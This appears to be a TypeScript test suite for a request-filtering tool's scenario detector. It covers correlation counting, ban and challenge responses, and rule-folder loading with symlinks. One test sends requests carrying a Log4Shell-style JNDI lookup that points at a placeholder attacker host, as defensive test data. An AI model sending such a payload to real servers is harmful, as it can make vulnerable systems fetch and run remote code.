import assert from 'node:assert/strict'
import { mkdir, mkdtemp, rm, symlink, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { describe, test } from 'node:test'
import { Engine, type Event } from '@postern/core'
import fc from 'fast-check'
import { type ScenarioDetector, scenarioDetector } from '../src/scenario-detector.ts'
import { loadScenarios, watchScenarios } from '../src/scenario-files.ts'
import { ScenarioSet } from '../src/scenario-set.ts'

const BASES = `
---
title: A
name: a
logsource: { product: postern }
detection: { s: { type: a }, condition: s }
---
title: B
name: b
logsource: { product: postern }
detection: { s: { type: b }, condition: s }
`

const set = (correlation: string, respond = '{ action: block, for: 10m, silence: 5m }'): ScenarioSet =>
  ScenarioSet.parse([
    { place: 't.yml', text: `title: T\nname: t\ncorrelation: ${correlation}\nrespond: ${respond}${BASES}` },
  ])

const counting = (count: number, span: string): ScenarioSet =>
  set(`{ type: event_count, rules: [a], group-by: [c-ip], timespan: ${span}, condition: { gte: ${count} } }`)

const at = (seconds: number, type = 'a', change: Partial<Event> = {}): Event => ({
  type,
  time: 1_700_000_000_000 + seconds * 1_000,
  actor: { address: '192.0.2.7' },
  request: { id: `r${seconds}`, method: 'GET', host: '', path: '/', query: '' },
  ...change,
})

const fires = (detector: ScenarioDetector, event: Event): boolean =>
  (detector.observe(event) ?? []).some(finding => finding.scenario === 't')

describe('correlations', () => {
  test('event_count fires with the event that fulfils it, and names the requests', () => {
    const detector = scenarioDetector({ scenarios: counting(3, '10s') })
    assert.equal(fires(detector, at(0)), false)
    assert.equal(fires(detector, at(5)), false)
    const [finding] = detector.observe(at(10)) ?? []
    assert.deepEqual(finding?.requests, ['r0', 'r5', 'r10'])
    assert.deepEqual(finding?.respond, { measure: 'block', duration: 600_000 })
    assert.deepEqual(finding?.actor, { kind: 'address', value: '192.0.2.7' })
  })

  test('event_count is exact, however events fall', () => {
    fc.assert(
      fc.property(
        fc.array(fc.integer({ min: 0, max: 30 }), { maxLength: 40 }),
        fc.integer({ min: 1, max: 6 }),
        (gaps, count) => {
          const detector = scenarioDetector({ scenarios: counting(count, '60s') })
          const times: number[] = []
          let now = 0
          let quietUntil = Number.NEGATIVE_INFINITY
          for (const gap of gaps) {
            now += gap
            if (now >= quietUntil) times.push(now)
            const wanted = now >= quietUntil && times.filter(time => now - time <= 60).length >= count
            assert.equal(fires(detector, at(now)), wanted)
            if (wanted) {
              quietUntil = now + 300
              times.length = 0
            }
          }
        },
      ),
    )
  })

  test('groups are kept apart, and silence follows each', () => {
    const detector = scenarioDetector({ scenarios: counting(2, '10s') })
    const from = (address: string, seconds: number): Event => at(seconds, 'a', { actor: { address } })
    assert.equal(fires(detector, from('192.0.2.1', 0)), false)
    assert.equal(fires(detector, from('192.0.2.2', 1)), false)
    assert.equal(fires(detector, from('192.0.2.1', 2)), true)
    assert.equal(fires(detector, from('192.0.2.1', 3)), false)
    assert.equal(fires(detector, from('192.0.2.1', 4)), false, 'silent')
    assert.equal(fires(detector, from('192.0.2.2', 5)), true)
    assert.equal(fires(detector, from('192.0.2.1', 303)), false)
    assert.equal(fires(detector, from('192.0.2.1', 304)), true, 'after the silence')
  })

  test('value_count counts what is different', () => {
    const detector = scenarioDetector({
      scenarios: set(
        '{ type: value_count, rules: [a], group-by: [c-ip], timespan: 10s, condition: { field: data.x, gte: 3 } }',
      ),
    })
    const value = (seconds: number, x: string): Event => at(seconds, 'a', { data: { x } })
    for (let i = 0; i < 9; i++) assert.equal(fires(detector, value(i, 'same')), false)
    assert.equal(fires(detector, value(9, 'two')), false)
    assert.equal(fires(detector, value(20, 'three')), false, 'the others are out of the window')
    assert.equal(fires(detector, value(21, 'four')), false)
    assert.equal(fires(detector, value(22, 'five')), true)
  })

  test('value_sum and value_avg add up what the window holds', () => {
    const sum = scenarioDetector({
      scenarios: set(
        '{ type: value_sum, rules: [a], group-by: [c-ip], timespan: 1m, condition: { field: data.n, gte: 100 } }',
      ),
    })
    const avg = scenarioDetector({
      scenarios: set(
        '{ type: value_avg, rules: [a], group-by: [c-ip], timespan: 1m, condition: { field: data.n, gt: 50 } }',
      ),
    })
    const amount = (seconds: number, n: number): Event => at(seconds, 'a', { data: { n } })
    assert.equal(fires(sum, amount(0, 60)), false)
    assert.equal(fires(sum, amount(120, 60)), false)
    assert.equal(fires(sum, amount(130, 40)), true)
    assert.equal(fires(avg, amount(0, 20)), false)
    assert.equal(fires(avg, amount(1, 80)), false)
    assert.equal(fires(avg, amount(2, 60)), true)
  })

  test('temporal needs all rules in any order, temporal_ordered in theirs', () => {
    const any = (): ScenarioDetector =>
      scenarioDetector({
        scenarios: set('{ type: temporal, rules: [a, b], group-by: [c-ip], timespan: 10s }'),
      })
    const ordered = (): ScenarioDetector =>
      scenarioDetector({
        scenarios: set('{ type: temporal_ordered, rules: [a, b], group-by: [c-ip], timespan: 10s }'),
      })
    for (const [make, first, second, wanted] of [
      [any, 'a', 'b', true],
      [any, 'b', 'a', true],
      [ordered, 'a', 'b', true],
      [ordered, 'b', 'a', false],
    ] as const) {
      const detector = make()
      assert.equal(fires(detector, at(0, first)), false)
      assert.equal(fires(detector, at(5, second)), wanted)
    }
    const late = ordered()
    fires(late, at(0, 'a'))
    assert.equal(fires(late, at(11, 'b')), false)
  })

  test('what a ban refused does not prolong it', () => {
    const detector = scenarioDetector({ scenarios: counting(1, '10s') })
    assert.equal(fires(detector, at(0, 'a', { decision: 'deny', guard: 'remediation' })), false)
    assert.equal(fires(detector, at(0, 'a', { decision: 'deny', guard: 'inspect' })), true)
  })

  test('a flood of new groups stays within its bound, and says what was given up', () => {
    const detector = scenarioDetector({ scenarios: counting(2, '1h'), capacity: 100 })
    for (let i = 0; i < 1_000; i++)
      detector.observe(at(i, 'a', { actor: { address: `10.0.${i >> 8}.${i & 255}` } }))
    const detail = detector.health().detail ?? ''
    assert.match(detail, /100 groups watched/)
    assert.match(detail, /900 evicted/)
  })

  test('new rules keep the windows of those that did not change', () => {
    const detector = scenarioDetector({ scenarios: counting(2, '10s') })
    fires(detector, at(0))
    detector.replace(counting(2, '10s'))
    assert.equal(fires(detector, at(1)), true)
  })
})

test('browsers are challenged before they are banned: a page may have made its visitors ask for an exploit', () => {
  const detector = scenarioDetector({ scenarios: loadScenarios() })
  const measures: (string | undefined)[] = []
  const engine = new Engine({
    detectors: [detector],
    remediations: {
      find: () => undefined,
      apply: finding => {
        measures.push(finding.respond?.measure)
        return undefined
      },
    },
  })
  for (const [peer, headers] of [
    ['192.0.2.7', ['Sec-Fetch-Site', 'cross-site', 'Sec-Fetch-Mode', 'no-cors']],
    ['192.0.2.9', ['Sec-Fetch-Site', 'same-origin', 'Sec-Fetch-Mode', 'cors']],
    ['192.0.2.8', []],
    // Solved the puzzle, and goes on: a tool that says it is a browser.
    ['192.0.2.10', ['Sec-Fetch-Site', 'same-origin', 'Cookie', 'a=b; postern_clearance=1.x']],
    ['192.0.2.11', ['Sec-Fetch-Site', 'cross-site', 'X-Postern-Clearance', '1.x']],
  ] as const)
    for (const n of [1, 2, 3]) {
      const exchange = engine.open({
        method: 'GET',
        target: `/${n}?x=\${jndi:ldap://evil.example/a}`,
        headers: ['Host', 'h', ...headers],
        peer,
        secure: false,
        httpVersion: '1.1',
        body: undefined,
        native: undefined,
      })
      engine.settle(exchange, { status: 404, duration: 1, bytes: 0, aborted: false })
    }
  assert.deepEqual(measures, ['challenge', 'challenge', 'block', 'throttle', 'throttle'])
})

describe('rule folders', () => {
  const text = (count: number): string =>
    `title: T\nname: t\ncorrelation: { type: event_count, rules: [a], group-by: [c-ip], timespan: 10s, condition: { gte: ${count} } }${BASES}`

  test('are followed while they change; a mistake keeps the old rules', async t => {
    const folder = await mkdtemp(join(tmpdir(), 'postern-scenarios-'))
    t.after(() => rm(folder, { recursive: true }))
    const file = join(folder, 'mine.yml')
    await writeFile(file, text(5))
    const files = { folders: [folder], shipped: 'none' } as const
    const detector = scenarioDetector({ scenarios: loadScenarios(files) })
    const outcomes: unknown[] = []
    let heard = Promise.withResolvers<unknown>()
    const stop = watchScenarios({
      files,
      detector,
      onReload: () => heard.resolve('reloaded'),
      onError: error => heard.resolve(error),
    })
    t.after(stop)
    // A watcher may not see what is written before it is set up, so the file is written until it does.
    const writeUntilHeard = async (body: string): Promise<void> => {
      heard = Promise.withResolvers<unknown>()
      const again = setInterval(() => void writeFile(file, body), 500)
      await writeFile(file, body)
      outcomes.push(await heard.promise)
      clearInterval(again)
    }
    await writeUntilHeard(text(1))
    assert.equal(fires(detector, at(0)), true)
    await writeUntilHeard('title: broken')
    assert.equal((outcomes.at(-1) as { code?: string }).code, 'POSTERN_CONFIG')
    assert.ok(detector.scenarios.list().some(one => one.id === 't'))
  })

  test('a folder that is not there is an error with its name', () => {
    assert.throws(() => loadScenarios({ folders: ['/nowhere/at/all'] }), /\/nowhere\/at\/all/)
  })

  test('are read once however links lead through them, and never outside', async t => {
    const folder = await mkdtemp(join(tmpdir(), 'postern-scenarios-'))
    const elsewhere = await mkdtemp(join(tmpdir(), 'postern-elsewhere-'))
    t.after(() => Promise.all([folder, elsewhere].map(path => rm(path, { recursive: true }))))
    // As a ConfigMap is mounted, and two links in a circle.
    await mkdir(join(folder, '..2026_01'))
    await writeFile(join(folder, '..2026_01', 'mine.yml'), text(1))
    await symlink('..2026_01', join(folder, '..data'))
    await symlink(join('..data', 'mine.yml'), join(folder, 'mine.yml'))
    await symlink('.', join(folder, 'a'))
    await symlink('..', join(folder, '..2026_01', 'b'))
    const scenarios = loadScenarios({ folders: [folder], shipped: 'none' })
    assert.deepEqual(
      scenarios.list().map(({ id }) => id),
      ['b', 't'],
    )
    await symlink(elsewhere, join(folder, 'theirs'))
    assert.throws(
      () => loadScenarios({ folders: [folder], shipped: 'none' }),
      /theirs: is a link to a folder outside/,
    )
  })

  test('a shipped file can be left out', () => {
    const all = loadScenarios().list()
    const some = loadScenarios({ without: ['http-crawl'] }).list()
    assert.ok(all.some(one => one.id === 'http-crawl'))
    assert.ok(!some.some(one => one.id === 'http-crawl'))
  })
})
